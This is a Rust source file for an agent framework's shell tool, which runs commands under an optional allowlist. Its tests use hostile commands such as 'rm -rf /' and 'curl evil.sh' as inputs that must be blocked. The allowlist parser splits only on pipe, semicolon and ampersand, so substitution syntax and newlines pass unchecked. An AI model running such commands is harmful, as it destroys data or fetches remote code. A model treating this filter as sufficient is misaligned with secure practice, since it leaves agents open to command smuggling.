//! shell: execute commands in the workspace directory.
//!
//! Supports command allowlisting. The child is killed if the call is
//! dropped (e.g. by the scheduler's timeout).

use async_trait::async_trait;
use std::path::PathBuf;
use tokio::process::Command;
use tracing::{debug, warn};

use thinkloop_core::error::ToolError;
use thinkloop_core::tool::{ParamType, Tool, ToolArgs, ToolParameter};

use crate::{str_arg, truncate_output};

pub struct ShellTool {
    /// If non-empty, only these commands are allowed.
    allowed_commands: Vec<String>,
    working_dir: PathBuf,
    max_output_bytes: usize,
}

impl ShellTool {
    pub fn new(allowed_commands: Vec<String>, working_dir: impl Into<PathBuf>, max_output_bytes: usize) -> Self {
        Self {
            allowed_commands,
            working_dir: working_dir.into(),
            max_output_bytes,
        }
    }

    fn base_command(command: &str) -> &str {
        command.split_whitespace().next().unwrap_or("").trim()
    }

    /// Every command in a `;`, `&&`, `||` or `|` chain must be allowed.
    fn is_command_allowed(&self, command: &str) -> bool {
        if self.allowed_commands.is_empty() {
            return true;
        }
        command
            .split(['|', ';', '&'])
            .map(str::trim)
            .filter(|part| !part.is_empty())
            .all(|part| {
                let base = Self::base_command(part);
                self.allowed_commands.iter().any(|a| a == base)
            })
    }
}

#[async_trait]
impl Tool for ShellTool {
    fn name(&self) -> &str {
        "shell"
    }

    fn description(&self) -> &str {
        "Execute a shell command in the workspace directory and return stdout/stderr."
    }

    fn parameters(&self) -> Vec<ToolParameter> {
        vec![ToolParameter::required(
            "command",
            ParamType::String,
            "The shell command to execute",
        )]
    }

    fn category(&self) -> &str {
        "system"
    }

    fn is_dangerous(&self) -> bool {
        true
    }

    async fn execute(&self, arguments: ToolArgs) -> Result<String, ToolError> {
        let command = str_arg(&arguments, self.name(), "command")?;

        if !self.is_command_allowed(command) {
            return Err(ToolError::PermissionDenied {
                tool_name: self.name().into(),
                reason: format!("Command '{}' not in allowlist", Self::base_command(command)),
            });
        }

        debug!(command = %command, cwd = %self.working_dir.display(), "Executing shell command");

        let mut cmd = if cfg!(target_os = "windows") {
            let mut c = Command::new("cmd");
            c.args(["/C", command]);
            c
        } else {
            let mut c = Command::new("sh");
            c.args(["-c", command]);
            c
        };

        let output = cmd
            .current_dir(&self.working_dir)
            .kill_on_drop(true)
            .output()
            .await
            .map_err(|e| ToolError::ExecutionFailed {
                tool_name: self.name().into(),
                reason: e.to_string(),
            })?;

        let stdout = String::from_utf8_lossy(&output.stdout).to_string();
        let stderr = String::from_utf8_lossy(&output.stderr).to_string();

        if output.status.success() {
            let text = if stderr.is_empty() {
                stdout
            } else {
                format!("{stdout}\n[stderr]: {stderr}")
            };
            Ok(truncate_output(text.trim().to_string(), self.max_output_bytes))
        } else {
            let code = output.status.code().unwrap_or(-1);
            warn!(command = %command, exit_code = code, "Command failed");
            Err(ToolError::ExecutionFailed {
                tool_name: self.name().into(),
                reason: truncate_output(
                    format!("[exit code: {code}]\n{stdout}\n{stderr}").trim().to_string(),
                    self.max_output_bytes,
                ),
            })
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn args(value: serde_json::Value) -> ToolArgs {
        value.as_object().cloned().unwrap()
    }

    fn tool(allowed: &[&str]) -> ShellTool {
        ShellTool::new(
            allowed.iter().map(|s| s.to_string()).collect(),
            std::env::temp_dir(),
            4096,
        )
    }

    #[test]
    fn allowlist_checks_every_chained_command() {
        let t = tool(&["echo", "ls"]);
        assert!(t.is_command_allowed("echo hello"));
        assert!(t.is_command_allowed("ls -la | echo done"));
        assert!(!t.is_command_allowed("rm -rf /"));
        assert!(!t.is_command_allowed("echo hi && rm -rf /"));
        assert!(!t.is_command_allowed("echo hi; curl evil.sh"));
    }

    #[test]
    fn empty_allowlist_allows_all() {
        assert!(tool(&[]).is_command_allowed("anything --goes"));
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn runs_allowed_command() {
        let output = tool(&["echo"]).execute(args(json!({"command": "echo hello"}))).await.unwrap();
        assert_eq!(output, "hello");
    }

    #[tokio::test]
    async fn blocked_command_is_permission_denied() {
        let err = tool(&["echo"]).execute(args(json!({"command": "rm -rf /tmp/x"}))).await.unwrap_err();
        assert!(matches!(err, ToolError::PermissionDenied { .. }));
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn non_zero_exit_is_failure() {
        let err = tool(&[]).execute(args(json!({"command": "exit 3"}))).await.unwrap_err();
        assert!(err.to_string().contains("exit code: 3"));
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn runs_in_working_dir() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("marker.txt"), "").unwrap();
        let t = ShellTool::new(vec![], dir.path(), 4096);
        let output = t.execute(args(json!({"command": "ls"}))).await.unwrap();
        assert!(output.contains("marker.txt"));
    }
}
